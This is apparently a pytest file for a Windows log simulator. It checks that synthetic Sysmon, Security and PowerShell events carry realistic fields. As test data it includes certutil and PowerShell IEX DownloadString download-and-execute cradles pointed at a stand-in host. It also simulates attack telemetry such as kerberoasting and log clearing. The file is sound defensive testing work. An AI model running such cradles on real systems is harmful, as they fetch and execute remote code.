"""Sysmon, Security and PowerShell events are filled the way Windows fills them."""

from __future__ import annotations

import json
import re
import struct

import pytest

from simulator.sensors import SENSORS, SensorInputError

from .conftest import MONDAY

POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
GUID = re.compile(r"^[0-9A-F]{8}-[0-9A-F]{4}-[0-9A-F]{4}-[0-9A-F]{4}-[0-9A-F]{12}$")
HASHES = re.compile(
    r"^SHA1=[0-9A-F]{40},MD5=[0-9A-F]{32},SHA256=[0-9A-F]{64},"
    r"IMPHASH=[0-9A-F]{32}$"
)


def sysmon(ctx, host, kind, ts=MONDAY, **values):
    return SENSORS["sysmon"].event(
        uid="t", ts=ts, kind=kind, host=host, values=values, ctx=ctx
    )


def security(ctx, host, ts=MONDAY, **values):
    return SENSORS["windows_security"].event(
        uid="t", ts=ts, kind="default", host=host, values=values, ctx=ctx
    )


def test_a_known_binary_gets_its_version_resource_and_hashes(ctx, workstation):
    event = sysmon(
        ctx,
        workstation,
        "process_creation",
        Image=POWERSHELL,
        CommandLine="powershell.exe -nop",
        ParentImage=WORD,
    )
    f = event.fields
    assert f["OriginalFileName"] == "PowerShell.EXE"
    assert f["Description"] == "Windows PowerShell"
    assert f["Company"] == "Microsoft Corporation"
    assert f["FileVersion"].startswith("10.0.")
    assert HASHES.match(f["Hashes"])
    assert GUID.match(f["ProcessGuid"]) and GUID.match(f["ParentProcessGuid"])
    assert f["ProcessId"] % 4 == 0
    assert f["ParentCommandLine"] == f'"{WORD}"'
    assert f["EventID"] == 1 and f["Channel"] == "Microsoft-Windows-Sysmon/Operational"
    assert f["Computer"] == workstation.fqdn
    assert f["UtcTime"] == "2026-03-02 08:00:00.000"


def test_the_owner_runs_user_processes_in_their_daily_session(org, ctx, workstation):
    owner = org.user(workstation.owner)
    event = sysmon(ctx, workstation, "process_creation", Image=POWERSHELL)
    f = event.fields
    assert f["User"] == owner.domain_user
    assert f["IntegrityLevel"] == "Medium"
    assert f["CurrentDirectory"] == f"C:\\Users\\{owner.sam}\\"
    assert f["TerminalSessionId"] == 1
    # The LogonGuid ends with the LogonId's bytes, as Sysmon builds it.
    logon_id = int(f["LogonId"], 16)
    tail = f["LogonGuid"].replace("-", "")[16:]
    assert struct.unpack("<Q", bytes.fromhex(tail))[0] == logon_id
    later = sysmon(
        ctx, workstation, "process_creation", ts=MONDAY + 3600, Image=POWERSHELL
    )
    assert later.fields["LogonId"] == f["LogonId"]


def test_system_images_run_as_system_with_system_integrity(ctx, workstation):
    event = sysmon(
        ctx, workstation, "process_creation", Image="C:\\Windows\\System32\\svchost.exe"
    )
    f = event.fields
    assert f["User"] == "NT AUTHORITY\\SYSTEM"
    assert f["IntegrityLevel"] == "System"
    assert f["LogonId"] == "0x3e7"
    assert f["ParentImage"] == "C:\\Windows\\System32\\services.exe"


def test_an_unknown_file_has_no_version_resource_but_stable_hashes(ctx, workstation):
    dropped = "C:\\Users\\Public\\upd.exe"
    first = sysmon(ctx, workstation, "process_creation", Image=dropped).fields
    second = sysmon(ctx, workstation, "process_creation", Image=dropped).fields
    assert first["OriginalFileName"] == "-" and first["Company"] == "-"
    assert first["Hashes"] == second["Hashes"]


def test_the_image_is_read_from_a_command_line_alone(ctx, workstation):
    event = sysmon(
        ctx,
        workstation,
        "process_creation",
        CommandLine="certutil -urlcache -f http://a.test/x x",
    )
    assert event.fields["Image"] == "C:\\Windows\\System32\\certutil.exe"


def test_later_events_of_a_process_reuse_its_guid_and_id(ctx, workstation):
    started = sysmon(ctx, workstation, "process_creation", Image=POWERSHELL).fields
    connected = sysmon(
        ctx,
        workstation,
        "network_connection",
        Image=POWERSHELL,
        DestinationIp="198.51.100.7",
        DestinationPort="443",
    ).fields
    assert connected["ProcessGuid"] == started["ProcessGuid"]
    assert connected["ProcessId"] == started["ProcessId"]
    assert connected["DestinationPort"] == 443  # text from a template becomes a number
    assert connected["DestinationPortName"] == "https"
    assert connected["Initiated"] == "true" and connected["SourceIp"] == workstation.ip


def test_given_values_win_and_unknown_names_are_kept(ctx, workstation):
    event = sysmon(
        ctx,
        workstation,
        "file_event",
        Image=POWERSHELL,
        TargetFilename="C:\\Temp\\a.ps1",
        Custom="x",
        RuleName="T1059",
    )
    f = event.fields
    assert f["TargetFilename"] == "C:\\Temp\\a.ps1"
    assert f["RuleName"] == "T1059"
    assert f["Custom"] == "x"
    assert json.loads(event.raw)["Event"]["EventData"]["Custom"] == "x"


def test_record_numbers_increase_per_host_and_channel(ctx, workstation, dc):
    numbers = [
        sysmon(ctx, workstation, "image_load", ts=MONDAY + i * 0.001).fields[
            "EventRecordID"
        ]
        for i in range(50)
    ]
    assert numbers == sorted(numbers) and len(set(numbers)) == 50
    other = sysmon(ctx, dc, "image_load").fields["EventRecordID"]
    assert other not in numbers


def test_a_network_logon_names_its_source_and_package(org, ctx, dc):
    user = org.users[3]
    f = security(
        ctx,
        dc,
        EventID=4624,
        LogonType="3",
        TargetUserName=user.sam,
        IpAddress="10.10.16.30",
        AuthenticationPackageName="NTLM",
    ).fields
    assert f["LogonType"] == 3
    assert f["TargetUserSid"] == user.sid
    assert f["TargetDomainName"] == org.netbios
    assert f["LogonProcessName"] == "NtLmSsp " and f["LmPackageName"] == "NTLM V2"
    assert f["IpAddress"] == "10.10.16.30"
    assert f["Provider_Name"] == "Microsoft-Windows-Security-Auditing"
    assert f["Keywords"] == "0x8020000000000000"


def test_a_failed_logon_for_an_unknown_user_says_no_such_user(ctx, dc):
    f = security(
        ctx, dc, EventID=4625, TargetUserName="nosuchuser", IpAddress="203.0.113.9"
    ).fields
    assert f["SubStatus"] == "0xc0000064" and f["Status"] == "0xc000006d"
    assert f["TargetUserSid"] == "S-1-0-0"
    assert f["Keywords"] == "0x8010000000000000"


def test_process_creation_in_the_security_log_is_a_process_creation_event(ctx, dc):
    event = security(
        ctx, dc, EventID=4688, NewProcessName=POWERSHELL, CommandLine="powershell -nop"
    )
    assert (event.product, event.category, event.service) == (
        "windows",
        "process_creation",
        "security",
    )
    assert event.fields["MandatoryLabel"].startswith("S-1-16-")
    assert event.fields["TokenElevationType"] in ("%%1936", "%%1937", "%%1938")


def test_a_kerberoasting_ticket_names_the_service_account(org, ctx, dc):
    f = security(
        ctx,
        dc,
        EventID=4769,
        TargetUserName=org.users[0].sam,
        ServiceName="svc_sql",
        TicketEncryptionType="0x17",
    ).fields
    account = next(a for a in org.service_accounts if a.sam == "svc_sql")
    assert f["ServiceSid"] == account.sid
    assert f["TicketEncryptionType"] == "0x17"
    assert f["IpAddress"].startswith("::ffff:")


def test_adding_to_domain_admins_names_group_and_member(org, ctx, dc):
    member = org.users[2]
    f = security(ctx, dc, EventID=4728, MemberName=member.sam).fields
    assert f["TargetUserName"] == "Domain Admins"
    assert f["TargetSid"] == f"{org.sid_prefix}-512"
    assert f["MemberSid"] == member.sid
    assert f["MemberName"].startswith(f"CN={member.name},")


def test_clearing_the_security_log_writes_user_data_from_the_eventlog(ctx, dc):
    event = security(ctx, dc, EventID=1102)
    raw = json.loads(event.raw)["Event"]
    assert (
        raw["System"]["Provider"]["#attributes"]["Name"] == "Microsoft-Windows-Eventlog"
    )
    assert set(raw["UserData"]["LogFileCleared"]) == {
        "SubjectUserSid",
        "SubjectUserName",
        "SubjectDomainName",
        "SubjectLogonId",
    }
    assert event.fields["EventID"] == 1102 and event.fields["Channel"] == "Security"


@pytest.mark.parametrize(
    "event_id",
    [
        4624,
        4625,
        4634,
        4647,
        4648,
        4663,
        4672,
        4688,
        4698,
        4720,
        4722,
        4724,
        4725,
        4726,
        4728,
        4732,
        4740,
        4756,
        4768,
        4769,
        4771,
        4776,
        1102,
    ],
)
def test_every_security_event_renders_consistent_fields_and_raw(ctx, dc, event_id):
    event = security(ctx, dc, EventID=event_id)
    raw = json.loads(event.raw)["Event"]
    data = raw.get("EventData") or next(iter(raw["UserData"].values()))
    for key, value in data.items():
        assert event.fields[key] == value
    assert event.fields["EventID"] == raw["System"]["EventID"] == event_id


def test_powershell_raises_suspicious_script_blocks_to_warning(org, ctx, workstation):
    sensor = SENSORS["powershell"]
    quiet = sensor.event(
        uid="a",
        ts=MONDAY,
        kind="ps_script",
        host=workstation,
        values={"ScriptBlockText": "Get-Date"},
        ctx=ctx,
    )
    loud = sensor.event(
        uid="b",
        ts=MONDAY,
        kind="ps_script",
        host=workstation,
        values={
            "ScriptBlockText": "IEX (New-Object Net.WebClient)"
            ".DownloadString('http://a.test/x')"
        },
        ctx=ctx,
    )
    assert quiet.fields["Level"] == 5 and loud.fields["Level"] == 3
    assert loud.fields["EventID"] == 4104
    assert loud.fields["Security_UserID"] == org.user(workstation.owner).sid
    assert loud.category == "ps_script"


def test_bad_requests_are_refused_with_a_reason(ctx, workstation):
    with pytest.raises(ValueError, match="sysmon has no kind 'process_create'"):
        sysmon(ctx, workstation, "process_create")
    with pytest.raises(SensorInputError, match="needs an EventID"):
        security(ctx, workstation)
    with pytest.raises(SensorInputError, match="no EventID 9999"):
        security(ctx, workstation, EventID=9999)
    with pytest.raises(SensorInputError, match="written on a host"):
        SENSORS["sysmon"].event(
            uid="t", ts=MONDAY, kind="image_load", host=None, values={}, ctx=ctx
        )


def test_the_computer_can_name_the_host(ctx, workstation):
    event = SENSORS["sysmon"].event(
        uid="t",
        ts=MONDAY,
        kind="image_load",
        host=None,
        values={"Computer": workstation.fqdn},
        ctx=ctx,
    )
    assert event.host == workstation.name
